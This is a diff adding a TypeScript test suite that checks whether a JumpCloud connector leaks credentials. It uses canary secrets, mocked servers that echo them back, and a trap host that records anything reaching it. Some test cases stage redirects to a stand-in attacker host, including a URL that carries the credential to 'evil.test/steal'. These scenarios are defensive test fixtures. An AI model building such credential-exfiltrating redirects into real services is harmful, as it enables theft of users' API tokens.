@@ -1,0 +1,505 @@
+import { inspect } from 'node:util';
+import {
+  AbortError,
+  AuthenticationError,
+  BadRequestError,
+  type ConnectorEvent,
+  createManualClock,
+  NetworkError,
+  PermissionError,
+  RateLimitError,
+  ServerError,
+  TimeoutError,
+  ValidationError,
+} from '@org/connector-core';
+import nock from 'nock';
+import { afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { createJumpCloudConnector, type JumpCloudConnectorOptions } from '../src/index.js';
+
+/**
+ * Secret canary: unique credentials are configured (an API key, or a service account's client
+ * secret and the access tokens it obtains), every failure kind is driven through the public
+ * API (mid-pagination where it applies), with servers that echo the token in bodies and headers,
+ * and everything a host app can observe is searched for any 10-character run of it.
+ */
+const KEY = 'jck-CANARY-Mn4Bv8Cx2Za6Sd0Fg3Hj7Kl1Qw5Er9Ty';
+const CLIENT_SECRET = 'jcs-CANARY-Pl0Ok9Ij8Uh7Yg6Tf5Rd4Es3Wa2Qz1Xc';
+// Access tokens with `/`, which JSON encoders may escape as `\/`.
+const ACCESS_1 = 'jat-CANARY-1a/Vb2Nc3/Md4Le5/Kf6Jg7/Hh8Gi9Fj0';
+const ACCESS_2 = 'jat-CANARY-2k/Lm3Nn4/Ob5Pc6/Qd7Re8/Sf9Tg0Uh1';
+const SECRETS = [KEY, CLIENT_SECRET, ACCESS_1, ACCESS_2];
+/** A private key in an SSO application's `config`: never to surface anywhere. */
+const SSO_KEY = '-----BEGIN PRIVATE KEY-----ssoCANARY-Ya7Xb6Wc5Vd4Ue3Tf2Sg1Rh0';
+const API = 'https://console.jumpcloud.com';
+const INSIGHTS = 'https://api.jumpcloud.com';
+const IDP = 'https://admin-oauth.id.jumpcloud.com';
+const ORG = '5a1b2c3d4e5f6a7b8c9d0e1f';
+const EVIL = 'https://evil.test';
+
+beforeAll(() => nock.disableNetConnect());
+afterEach(() => nock.cleanAll());
+
+/** True when any 10-character run of any secret appears: a clipped secret is still a leak. */
+function leaks(text: string, secrets: readonly string[] = [...SECRETS, SSO_KEY]): boolean {
+  for (const secret of secrets) {
+    for (let i = 0; i + 10 <= secret.length; i++) {
+      if (text.includes(secret.slice(i, i + 10))) return true;
+    }
+  }
+  return false;
+}
+
+/** Every place an error can show a secret: message, stack, JSON, inspect, each cause. */
+function errorText(error: unknown): string {
+  const parts = [inspect(error, { depth: Infinity, showHidden: true }), JSON.stringify(error)];
+  for (let c: unknown = error; c instanceof Error; c = c.cause) {
+    parts.push(c.message, String(c.stack), JSON.stringify(c));
+  }
+  return parts.join('\n');
+}
+
+interface Sent {
+  url: URL;
+  headers: Headers;
+}
+
+const turn = () => new Promise<void>((resolve) => setImmediate(resolve));
+
+function setup(auth: 'apiKey' | 'serviceAccount' = 'apiKey') {
+  const clock = createManualClock();
+  const events: ConnectorEvent[] = [];
+  const sent: Sent[] = [];
+  const foreign: Array<Record<string, string>> = [];
+  let inFlight = 0;
+  // Anything reaching the foreign host is recorded with its headers.
+  for (const method of ['GET', 'POST']) {
+    nock(EVIL)
+      .persist()
+      .intercept(/.*/, method)
+      // nock 15 hands reply callbacks the fetch Request.
+      .reply((request: string) => {
+        foreign.push(Object.fromEntries((request as unknown as Request).headers));
+        return [200, { access_token: 'attacker-token', expires_in: 3600 }];
+      });
+  }
+  const credentials: Partial<JumpCloudConnectorOptions> =
+    auth === 'apiKey'
+      ? { apiKey: KEY }
+      : { serviceAccount: { clientId: 'client-1', clientSecret: CLIENT_SECRET } };
+  const jc = createJumpCloudConnector({
+    ...credentials,
+    orgId: ORG,
+    pageSize: 2,
+    clock,
+    retry: { limit: 1, random: () => 0 },
+    timeout: { perAttemptMs: 5_000 },
+    onEvent: (e) => events.push(e),
+    fetch: async (input, init) => {
+      const request = new Request(input, init);
+      sent.push({ url: new URL(request.url), headers: request.headers });
+      inFlight++;
+      try {
+        return await fetch(request);
+      } finally {
+        inFlight--;
+      }
+    },
+  });
+  /** Settles `promise`, firing the clock only while no request is in flight (or while one hangs). */
+  async function run<T>(promise: Promise<T>, o: { hang?: boolean } = {}): Promise<T> {
+    let settled = false;
+    const done = promise.finally(() => {
+      settled = true;
+    });
+    done.catch(() => {});
+    let idle = 0;
+    for (;;) {
+      await turn();
+      if (settled) break;
+      idle = inFlight > 0 && !o.hang ? 0 : idle + 1;
+      if (idle < 5) continue;
+      idle = 0;
+      if (clock.pending() > 0) await clock.next();
+    }
+    return done;
+  }
+  return { jc, events, sent, foreign, run };
+}
+
+type Setup = ReturnType<typeof setup>;
+
+/**
+ * Nothing observable holds a secret; the API key and access tokens went to the console and
+ * Directory Insights origins only, the client credentials to the token URL only.
+ */
+function assertClean(s: Setup, error?: unknown) {
+  if (error !== undefined) expect(leaks(errorText(error))).toBe(false);
+  expect(leaks(JSON.stringify(s.events))).toBe(false);
+  expect(leaks(JSON.stringify(s.jc))).toBe(false);
+  expect(leaks(inspect(s.jc, { depth: Infinity, showHidden: true }))).toBe(false);
+  // x-org-id is not a secret: it stays visible.
+  expect(JSON.stringify(s.jc)).toContain(ORG);
+  expect(s.foreign).toEqual([]);
+  for (const r of s.sent) {
+    const where = `${r.url.origin}${r.url.pathname}`;
+    const auth = r.headers.get('authorization') ?? '';
+    if (where === `${IDP}/oauth2/token`) {
+      expect(r.headers.get('x-api-key')).toBeNull();
+      expect(auth.startsWith('Basic ')).toBe(true);
+    } else {
+      expect([API, INSIGHTS]).toContain(r.url.origin);
+      expect(auth.startsWith('Basic ')).toBe(false);
+    }
+  }
+}
+
+const uid = (n: number) => `5f00${n.toString(16).padStart(20, '0')}`;
+const user = (n: number) => ({
+  _id: uid(n),
+  email: `user${n}@acme.io`,
+  username: `user${n}`,
+  state: 'ACTIVATED',
+});
+
+/** Page 1 of 2 (pages overlap by one); page 2 is what the case makes fail. */
+function firstPage() {
+  nock(API)
+    .get('/api/systemusers')
+    .query((q) => q.skip === '0')
+    .reply(200, { totalCount: 3, results: [user(1), user(2)] });
+  return nock(API)
+    .get('/api/systemusers')
+    .query((q) => q.skip === '1');
+}
+
+/** A service account gets ACCESS_1, then ACCESS_2 when it refreshes after a 401. */
+function tokenEndpoint() {
+  nock(IDP).post('/oauth2/token').reply(200, { access_token: ACCESS_1, expires_in: 3600 });
+  nock(IDP).post('/oauth2/token').reply(200, { access_token: ACCESS_2, expires_in: 3600 });
+}
+
+/** The credential a request carried, as a server that echoes it back sees it. */
+function credentialOf(request: unknown): string {
+  const headers = (request as Request).headers;
+  return headers.get('x-api-key') ?? headers.get('authorization')?.replace(/^Bearer /, '') ?? '';
+}
+
+const long = (n: number, secret: string) => `${'x'.repeat(n)}${secret}`;
+const echoHeaders = (secret: string) => ({
+  'x-request-id': long(185, secret),
+  'www-authenticate': `Bearer error="invalid_token", token="${secret}"`,
+});
+/** Replies `status` with `body(secret)`, echoing the credential the request carried. */
+const echo =
+  (status: number, body: (secret: string) => unknown, headers: Record<string, string> = {}) =>
+  (request: unknown): [number, unknown, Record<string, string>] => {
+    const secret = credentialOf(request);
+    return [status, body(secret), { ...echoHeaders(secret), ...headers }];
+  };
+
+type Arrange = (s: Setup, ac: AbortController, cred: string) => void;
+const cases: Array<[string, new (...a: never[]) => Error, Arrange, boolean?]> = [
+  [
+    '401 echoing the credential in body and headers',
+    AuthenticationError,
+    () => {
+      firstPage()
+        .times(2)
+        .reply(echo(401, (c) => ({ message: long(180, c), key: c })));
+    },
+  ],
+  [
+    '403 whose message is clipped across the credential',
+    PermissionError,
+    () => {
+      firstPage().reply(echo(403, (c) => ({ message: long(170, c) })));
+    },
+  ],
+  [
+    '403 "blocked" asking for an hour',
+    RateLimitError,
+    () => {
+      firstPage().reply(
+        echo(403, (c) => ({ message: 'Forbidden', error: `blocked for abuse ${long(150, c)}` }), {
+          'retry-after': '3600',
+        }),
+      );
+    },
+  ],
+  [
+    '400 echoing a JSON-escaped credential',
+    BadRequestError,
+    () => {
+      firstPage().reply((request: string) => {
+        const c = credentialOf(request);
+        const text = `{"message":"${long(170, c).replaceAll('/', '\\/').replaceAll('-', '\\u002d')}"}`;
+        return [400, text, { 'content-type': 'application/json' }];
+      });
+    },
+  ],
+  [
+    '429 asking for an hour',
+    RateLimitError,
+    () => {
+      firstPage().reply(echo(429, (c) => `Too many requests for ${c}`, { 'retry-after': '3600' }));
+    },
+  ],
+  [
+    '5xx until retries run out',
+    ServerError,
+    () => {
+      firstPage()
+        .times(2)
+        .reply(echo(502, (c) => `<html><title>${long(190, c)}</title></html>`));
+    },
+  ],
+  [
+    'network error naming the credential',
+    NetworkError,
+    (_s, _ac, cred) => {
+      firstPage().times(2).replyWithError(`socket hang up (credential ${cred})`);
+    },
+  ],
+  [
+    'per-attempt timeout',
+    TimeoutError,
+    () => {
+      firstPage().times(2).delay(1_000_000_000).reply(200, {});
+    },
+    true,
+  ],
+  [
+    'abort, with the credential in the reason, while waiting to retry',
+    AbortError,
+    (s, ac, cred) => {
+      firstPage().reply(echo(503, (c) => `busy ${c}`, { 'retry-after': '10' }));
+      const stop = () =>
+        s.events.some((e) => e.type === 'retry')
+          ? ac.abort(new Error(`stop ${cred}`))
+          : setImmediate(stop);
+      stop();
+    },
+  ],
+  [
+    'a page whose shape is wrong where the credential sits',
+    ValidationError,
+    () => {
+      firstPage().reply((request: string) => [
+        200,
+        { totalCount: 3, results: credentialOf(request) },
+      ]);
+    },
+  ],
+  [
+    'a redirect to another origin carrying the credential',
+    ServerError,
+    () => {
+      firstPage().reply((request: string) => [
+        302,
+        '',
+        { location: `${EVIL}/steal?c=${encodeURIComponent(credentialOf(request))}` },
+      ]);
+    },
+  ],
+];
+
+describe.each([
+  ['API key', 'apiKey' as const, KEY],
+  ['service account', 'serviceAccount' as const, ACCESS_1],
+])('jumpcloud secret canary (%s): every failure mid-pagination', (_label, mode, cred) => {
+  it.each(cases)('%s', async (_name, type, arrange, hang) => {
+    const s = setup(mode);
+    if (mode === 'serviceAccount') tokenEndpoint();
+    const ac = new AbortController();
+    arrange(s, ac, cred);
+    const error = await s
+      .run(s.jc.users.list({ signal: ac.signal }).toArray(), { hang })
+      .catch((e: unknown) => e);
+    expect(error).toBeInstanceOf(type);
+    const pages = s.sent.filter((r) => r.url.pathname === '/api/systemusers');
+    expect(pages.length).toBeGreaterThanOrEqual(2);
+    expect(pages[1]?.url.searchParams.get('skip')).toBe('1');
+    expect(pages[0]?.headers.get('x-org-id')).toBe(ORG);
+    if (mode === 'apiKey') expect(pages[0]?.headers.get('x-api-key')).toBe(KEY);
+    else expect(pages[0]?.headers.get('authorization')).toBe(`Bearer ${ACCESS_1}`);
+    assertClean(s, error);
+  });
+});
+
+describe('jumpcloud: credentials go to their own origin only', () => {
+  it('the echoes were real: a 401 after a refresh echoed both access tokens', async () => {
+    const s = setup('serviceAccount');
+    tokenEndpoint();
+    const seen: string[] = [];
+    firstPage()
+      .times(2)
+      .reply((request: string) => {
+        seen.push(credentialOf(request));
+        return echo(401, (c) => ({ message: `invalid token ${c}` }))(request);
+      });
+    const error = (await s.run(s.jc.users.list().toArray()).catch((e: unknown) => e)) as Error;
+    expect(seen).toEqual([ACCESS_1, ACCESS_2]);
+    expect(error).toBeInstanceOf(AuthenticationError);
+    expect(error.message).toContain('[REDACTED]');
+    assertClean(s, error);
+  });
+
+  it('the token request goes to the token URL with Basic client credentials; API calls carry only the bearer', async () => {
+    const s = setup('serviceAccount');
+    tokenEndpoint();
+    nock(API)
+      .get('/api/systemusers')
+      .query(true)
+      .reply(200, { totalCount: 1, results: [user(1)] });
+    nock(INSIGHTS)
+      .post('/insights/directory/v1/events')
+      .reply(200, [], { 'x-result-count': '0', 'x-limit': '1000' });
+    expect(await s.run(s.jc.users.list().toArray())).toHaveLength(1);
+    expect(await s.run(s.jc.events.list({ start: '2024-01-01T00:00:00Z' }).toArray())).toEqual([]);
+    const basic = `Basic ${Buffer.from(`client-1:${CLIENT_SECRET}`).toString('base64')}`;
+    expect(s.sent.map((r) => [r.url.origin, r.headers.get('authorization')])).toEqual([
+      [IDP, basic],
+      [API, `Bearer ${ACCESS_1}`],
+      [INSIGHTS, `Bearer ${ACCESS_1}`],
+    ]);
+    assertClean(s);
+  });
+
+  it('a token endpoint that rejects the client and echoes the secret and the Basic value', async () => {
+    const s = setup('serviceAccount');
+    nock(IDP)
+      .post('/oauth2/token')
+      .reply((request: string) => {
+        const basic = (request as unknown as Request).headers.get('authorization') ?? '';
+        return [
+          401,
+          { error: 'invalid_client', error_description: `${basic} / ${CLIENT_SECRET}` },
+          { 'x-request-id': long(185, CLIENT_SECRET), 'www-authenticate': basic },
+        ];
+      });
+    const error = await s.run(s.jc.users.list().toArray()).catch((e: unknown) => e);
+    expect(error).toBeInstanceOf(AuthenticationError);
+    assertClean(s, error);
+  });
+
+  it('a token endpoint that redirects to another host is not followed', async () => {
+    const s = setup('serviceAccount');
+    nock(IDP)
+      .post('/oauth2/token')
+      .reply(307, '', { location: `${EVIL}/oauth2/token` });
+    const api = nock(API).get('/api/systemusers').query(true).reply(200, {});
+    const error = (await s.run(s.jc.verify()).catch((e: unknown) => e)) as Error;
+    expect(error).toBeInstanceOf(ServerError);
+    expect(error.message).toMatch(/redirect/);
+    expect(api.isDone()).toBe(false);
+    assertClean(s, error);
+  });
+
+  it('a Directory Insights error echoing the key is scrubbed', async () => {
+    const s = setup('apiKey');
+    nock(INSIGHTS)
+      .post('/insights/directory/v1/events')
+      .times(2)
+      .reply(echo(500, (c) => ({ message: long(170, c) })));
+    const error = await s
+      .run(s.jc.events.list({ start: '2024-01-01T00:00:00Z' }).toArray())
+      .catch((e: unknown) => e);
+    expect(error).toBeInstanceOf(ServerError);
+    assertClean(s, error);
+  });
+
+  it('the foreign-host trap records what reaches it (so an empty record means something)', async () => {
+    const s = setup();
+    await fetch(`${EVIL}/probe`, { method: 'POST', headers: { authorization: 'Basic x' } });
+    expect(s.foreign).toEqual([expect.objectContaining({ authorization: 'Basic x' })]);
+  });
+
+  it.each([
+    ['http: baseUrl on a public host', { baseUrl: 'http://console.jumpcloud.com' }],
+    ['http: token URL on a public host', { tokenUrl: 'http://admin-oauth.id.jumpcloud.com/t' }],
+    ['http: insights URL on a public host', { insightsBaseUrl: 'http://api.jumpcloud.com/x' }],
+    ['a base URL with credentials', { baseUrl: `https://u:${KEY}@console.jumpcloud.com` }],
+    ['an unknown region', { region: 'evil.test' as never }],
+  ])('refuses %s at construction, without echoing a secret', (_name, over) => {
+    let error: unknown;
+    try {
+      createJumpCloudConnector({
+        serviceAccount: { clientId: 'client-1', clientSecret: CLIENT_SECRET },
+        ...over,
+      });
+    } catch (e) {
+      error = e;
+    }
+    expect(error).toBeInstanceOf(Error);
+    expect(leaks(errorText(error))).toBe(false);
+  });
+
+  it.each([
+    [
+      'both an API key and a service account',
+      { apiKey: KEY, serviceAccount: { clientId: 'c', clientSecret: CLIENT_SECRET } },
+    ],
+    ['a key with whitespace', { apiKey: `${KEY} ${KEY}` }],
+    [
+      'a client secret with whitespace',
+      { serviceAccount: { clientId: 'c', clientSecret: `${CLIENT_SECRET}\n${CLIENT_SECRET}` } },
+    ],
+  ])('a bad credential config (%s) does not echo the secret', (_name, config) => {
+    let error: unknown;
+    try {
+      createJumpCloudConnector(config);
+    } catch (e) {
+      error = e;
+    }
+    expect(error).toBeInstanceOf(Error);
+    expect(leaks(errorText(error))).toBe(false);
+  });
+});
+
+describe('jumpcloud: an SSO application config never surfaces', () => {
+  const app = (n: number, extra: Record<string, unknown> = {}) => ({
+    _id: uid(n),
+    name: `app-${n}`,
+    displayLabel: `App ${n}`,
+    sso: { type: 'saml', idpCertExpirationAt: '2030-01-01T00:00:00Z' },
+    config: {
+      idpPrivateKey: { value: SSO_KEY },
+      idpCertificate: { value: SSO_KEY.replace('PRIVATE KEY', 'CERTIFICATE') },
+    },
+    ...extra,
+  });
+
+  it('not in list or get results, nor in events', async () => {
+    const s = setup();
+    nock(API)
+      .get('/api/applications')
+      .query(true)
+      .reply(200, { totalCount: 2, results: [app(1), app(2)] });
+    nock(API)
+      .get(`/api/applications/${uid(1)}`)
+      .reply(200, app(1));
+    const apps = await s.run(s.jc.applications.list().toArray());
+    const one = await s.run(s.jc.applications.get(uid(1)));
+    expect(apps.map((a) => a.displayLabel)).toEqual(['App 1', 'App 2']);
+    expect(one.sso?.idpCertExpirationAt).toBe('2030-01-01T00:00:00Z');
+    for (const a of [...apps, one]) expect(a).not.toHaveProperty('config');
+    expect(leaks(JSON.stringify([apps, one]) + inspect([apps, one], { depth: Infinity }))).toBe(
+      false,
+    );
+    assertClean(s);
+  });
+
+  it('not in a ValidationError about the application that holds it', async () => {
+    const s = setup();
+    nock(API)
+      .get('/api/applications')
+      .query(true)
+      .reply(200, { totalCount: 1, results: [app(1, { _id: 7, name: { config: SSO_KEY } })] });
+    const error = (await s
+      .run(s.jc.applications.list().toArray())
+      .catch((e: unknown) => e)) as ValidationError;
+    expect(error).toBeInstanceOf(ValidationError);
+    expect(error.path).toBe('$.results[0]._id');
+    assertClean(s, error);
+  });
+});
